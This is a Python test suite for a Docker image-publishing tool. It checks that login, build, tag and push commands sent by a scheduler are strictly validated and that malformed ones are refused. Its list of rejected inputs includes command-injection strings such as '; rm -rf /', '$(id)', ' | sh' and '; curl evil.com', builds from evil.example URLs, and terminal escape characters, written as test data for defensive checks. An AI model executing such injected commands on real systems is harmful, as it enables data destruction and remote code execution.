"""The service's commands are data: read strictly, or refused."""

import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lusid_image_publish.config import Settings
from lusid_image_publish.credential import Credential
from lusid_image_publish.errors import InstructionsError, InvalidNameError
from lusid_image_publish.names import ImageName, ImageReference
from lusid_image_publish.redact import Secret, redact
from lusid_image_publish.scheduler.instructions import (
    PushInstructions,
    commands_of,
    read_instructions,
)
from lusid_image_publish.scheduler.models import UploadImageInstructions

TOKEN = "eyJwYXlsb2FkIjoi+/abc=="
ASKED = ImageName("job", "1.0")


def answer(
    host: str = "foo.lusid.com", user: str = "AWS", **changes: str | None
) -> dict[str, object]:
    return {
        "dockerLoginCommand": f"docker login -u {user} -p {TOKEN} {host}",
        "buildVersionedDockerImageCommand": "docker build -t foo/job:1.0 . --platform=linux/amd64",
        "tagVersionedDockerImageCommand": f"docker tag foo/job:1.0 {host}/foo/job:1.0",
        "pushVersionedDockerImageCommand": f"docker push {host}/foo/job:1.0",
        "tagLatestDockerImageCommand": f"docker tag foo/job:1.0 {host}/foo/job:latest",
        "pushLatestDockerImageCommand": f"docker push {host}/foo/job:latest",
        "expiryTime": "2026-01-30T17:15:58.6730000+00:00",
        **changes,
    }


def read(document: dict[str, object]) -> object:
    return read_instructions(UploadImageInstructions.model_validate(document), ASKED)


@pytest.mark.parametrize(
    ("host", "user"),
    [
        ("foo.lusid.com", "AWS"),
        ("fooaz.azurecr.io", "foo-token"),
        ("127.0.0.1:5000", "local"),
        ("localhost", "local"),
    ],
)
def test_what_the_service_sends_is_read(host: str, user: str) -> None:
    result = read_instructions(UploadImageInstructions.model_validate(answer(host, user)), ASKED)
    assert str(result.target) == f"{host}/foo/job:1.0"
    assert result.credential == Credential(user, Secret(TOKEN))
    assert result.platform == "linux/amd64"
    assert result.expires == datetime(2026, 1, 30, 17, 15, 58, 673000, UTC)


def test_a_name_that_is_too_long_with_its_registry_is_reported() -> None:
    def read_named(repository: str) -> str:
        texts = {
            name: str(text).replace("/job:", f"/{repository}:") for name, text in answer().items()
        }
        asked = ImageName(repository, "1.0")
        return read_instructions(UploadImageInstructions.model_validate(texts), asked).target.path

    longest = "j" * (255 - len("foo.lusid.com/foo/"))
    assert read_named(longest) == f"foo/{longest}"
    with pytest.raises(InvalidNameError, match="it has 256 characters") as caught:
        read_named(longest + "j")
    assert f"at most {len(longest)} characters" in caught.value.hint


def test_the_optional_parts_may_be_missing() -> None:
    document = answer(
        tagLatestDockerImageCommand=None, pushLatestDockerImageCommand=None, expiryTime=None
    )
    document["buildVersionedDockerImageCommand"] = "docker build -t foo/job:1.0 ."
    result = read_instructions(UploadImageInstructions.model_validate(document), ASKED)
    assert (result.platform, result.expires) == (None, None)


@pytest.mark.parametrize(
    "login",
    [
        f"docker login --username AWS --password {TOKEN} foo.lusid.com",
        f"docker login --username=AWS --password={TOKEN} foo.lusid.com",
        f"docker login foo.lusid.com -p {TOKEN} -u AWS",
        f"docker login -u 'AWS' -p '{TOKEN}' https://foo.lusid.com/",
        f'docker login  -u "AWS" -p "{TOKEN}"  foo.lusid.com ',
    ],
)
def test_options_are_read_by_name_in_every_form(login: str) -> None:
    document = answer(dockerLoginCommand=login)
    result = read_instructions(UploadImageInstructions.model_validate(document), ASKED)
    assert result.credential == Credential("AWS", Secret(TOKEN))


BAD = {
    "not docker": {"pushVersionedDockerImageCommand": "podman push foo.lusid.com/foo/job:1.0"},
    "not push": {"pushVersionedDockerImageCommand": "docker pull foo.lusid.com/foo/job:1.0"},
    "empty": {"tagVersionedDockerImageCommand": ""},
    "two registries": {
        "dockerLoginCommand": f"docker login -u AWS -p {TOKEN} other.lusid.com",
    },
    "tag and push differ": {"pushVersionedDockerImageCommand": "docker push evil.com/foo/job:1.0"},
    "another tag": {
        "tagVersionedDockerImageCommand": "docker tag foo/job:1.0 foo.lusid.com/foo/job:2.0",
        "pushVersionedDockerImageCommand": "docker push foo.lusid.com/foo/job:2.0",
    },
    "another name": {
        "tagVersionedDockerImageCommand": "docker tag foo/job:1.0 foo.lusid.com/foo/bob:1.0",
        "pushVersionedDockerImageCommand": "docker push foo.lusid.com/foo/bob:1.0",
    },
    "another build": {"buildVersionedDockerImageCommand": "docker build -t foo/bob:1.0 ."},
    "build for another tag": {
        "buildVersionedDockerImageCommand": "docker build -t foo/job:2.0 .",
        "tagVersionedDockerImageCommand": "docker tag foo/job:2.0 foo.lusid.com/foo/job:1.0",
        "tagLatestDockerImageCommand": None,
    },
    "latest elsewhere": {
        "tagLatestDockerImageCommand": "docker tag foo/job:1.0 foo.lusid.com/bar/job:latest",
        "pushLatestDockerImageCommand": "docker push foo.lusid.com/bar/job:latest",
    },
    "latest is another tag": {
        "tagLatestDockerImageCommand": "docker tag foo/job:1.0 foo.lusid.com/foo/job:0.9",
        "pushLatestDockerImageCommand": "docker push foo.lusid.com/foo/job:0.9",
    },
    **{
        f"build from {place}": {
            "buildVersionedDockerImageCommand": f"docker build -t foo/job:1.0 {place}"
        }
        for place in (
            "https://evil.example/a.tar",
            "github.com/evil/evil",
            "git@evil.example:a",
            "git://evil.example/a",
            "-",
            "/",
            "-f https://evil.example/Dockerfile .",
        )
    },
    **{
        f"unprintable {mark!r}": {
            "pushVersionedDockerImageCommand": f"docker push 'foo.lusid.com/foo/job:1.0{mark}'"
        }
        for mark in ("\x1b[2J", "\x9b2J", "\u202e", "\u2066", "\r", "\u2028", "\x07")
    },
    "no registry": {
        "dockerLoginCommand": f"docker login -u AWS -p {TOKEN} foo",
        "tagVersionedDockerImageCommand": "docker tag foo/job:1.0 foo/foo/job:1.0",
        "pushVersionedDockerImageCommand": "docker push foo/foo/job:1.0",
    },
    "no user": {"dockerLoginCommand": f"docker login -p {TOKEN} foo.lusid.com"},
    "no password": {"dockerLoginCommand": "docker login foo.lusid.com -u AWS -p"},
    "password from stdin": {
        "dockerLoginCommand": "docker login -u AWS --password-stdin foo.lusid.com"
    },
    "unknown option": {
        "pushVersionedDockerImageCommand": "docker push --config=/tmp foo.lusid.com/foo/job:1.0"
    },
    "too many words": {
        "pushVersionedDockerImageCommand": "docker push foo.lusid.com/foo/job:1.0 x"
    },
    "open quote": {"pushVersionedDockerImageCommand": "docker push 'foo.lusid.com/foo/job:1.0"},
    **{
        f"shell {text!r}": {
            "pushVersionedDockerImageCommand": f"docker push foo.lusid.com/foo/job:1.0{text}"
        }
        for text in (
            "; rm -rf /",
            " && true",
            " | sh",
            "`id`",
            "$(id)",
            "$HOME",
            " > /etc/x",
            "\nid",
            "\\",
            " #",
            "*",
            '"$(id)"',
            "\x00",
        )
    },
    "shell in login": {
        "dockerLoginCommand": f"docker login -u AWS -p {TOKEN} foo.lusid.com; curl evil.com"
    },
}


@pytest.mark.parametrize("changes", BAD.values(), ids=BAD.keys())
def test_anything_else_is_refused_without_showing_the_password(
    changes: dict[str, object],
) -> None:
    with pytest.raises(InstructionsError) as caught:
        read(answer() | changes)
    assert caught.value.exit_code == 5
    assert TOKEN not in str(caught.value.diagnostics())


@given(st.text(max_size=60))
def test_no_text_gets_past_the_grammar_or_crashes_it(text: str) -> None:
    with pytest.raises(InstructionsError):
        read(answer(pushVersionedDockerImageCommand=text))


def test_the_password_is_known_as_a_secret_from_then_on() -> None:
    read(answer())
    assert redact(f"x {TOKEN} y") == "x *** y"


def test_the_commands_are_written_for_these_words_and_nothing_else() -> None:
    login = f'docker login  -u "A!S" -p "{TOKEN}"  foo.lusid.com '
    accepted = UploadImageInstructions.model_validate(answer(dockerLoginCommand=login))
    assert commands_of(accepted)["dockerLoginCommand"] == (
        f"docker login -u 'A!S' -p {TOKEN} foo.lusid.com"
    )
    plain = answer()
    assert list(commands_of(UploadImageInstructions.model_validate(plain)).items()) == [
        (name, text) for name, text in plain.items() if name != "expiryTime"
    ]


@pytest.mark.parametrize("step", ["tag", "push"])
def test_half_a_pair_for_latest_is_not_shown(step: str) -> None:
    document = answer() | {f"{step}LatestDockerImageCommand": None}
    shown = commands_of(UploadImageInstructions.model_validate(document))
    assert not any("Latest" in name for name in shown)


def test_an_expiry_of_never_is_none() -> None:
    document = answer(expiryTime="0001-01-01T00:00:00.0000000+00:00")
    result = read_instructions(UploadImageInstructions.model_validate(document), ASKED)
    result.require_fresh()


def test_expired_instructions_are_refused() -> None:
    result = read_instructions(UploadImageInstructions.model_validate(answer()), ASKED)
    assert result.expires
    result.require_fresh(result.expires - timedelta(seconds=1))
    with pytest.raises(InstructionsError, match="expired"):
        result.require_fresh(result.expires)


def test_the_answer_itself_prints_without_the_password() -> None:
    assert TOKEN not in repr(UploadImageInstructions.model_validate(answer()))


HERE = ["localhost:5000", "127.0.0.1:5000", "127.1", "2130706433:5000", "169.254.169.254"]
ELSEWHERE = ["foo.example", "10.0.0.5:5000", "192.168.1.1", "123.dkr.ecr.eu-west-2.amazonaws.com"]


def instructions_for(host: str) -> PushInstructions:
    return PushInstructions(
        ImageReference(host, "foo/job", "1"), Credential("AWS", Secret("x")), None, None
    )


@pytest.mark.parametrize("host", HERE)
def test_a_scheduler_of_another_machine_names_no_registry_of_this_one(host: str) -> None:
    remote = Settings.from_values(scheduler_url="https://foo.lusid.com/scheduler2")
    with pytest.raises(InstructionsError, match=re.escape(host)) as caught:
        instructions_for(host).require_allowed(remote)
    assert "foo.lusid.com" in caught.value.cause
    assert "--allow-http" in caught.value.hint
    instructions_for(host).require_allowed(replace(remote, allow_http=True))


@pytest.mark.parametrize("host", ELSEWHERE)
def test_a_scheduler_of_another_machine_names_any_other_registry(host: str) -> None:
    remote = Settings.from_values(scheduler_url="https://foo.lusid.com/scheduler2")
    instructions_for(host).require_allowed(remote)


@pytest.mark.parametrize("host", [*HERE[:2], *ELSEWHERE])
def test_a_scheduler_of_this_machine_names_registries_of_it_too(host: str) -> None:
    here = Settings.from_values(scheduler_url="http://127.0.0.1:8080/scheduler2")
    instructions_for(host).require_allowed(here)
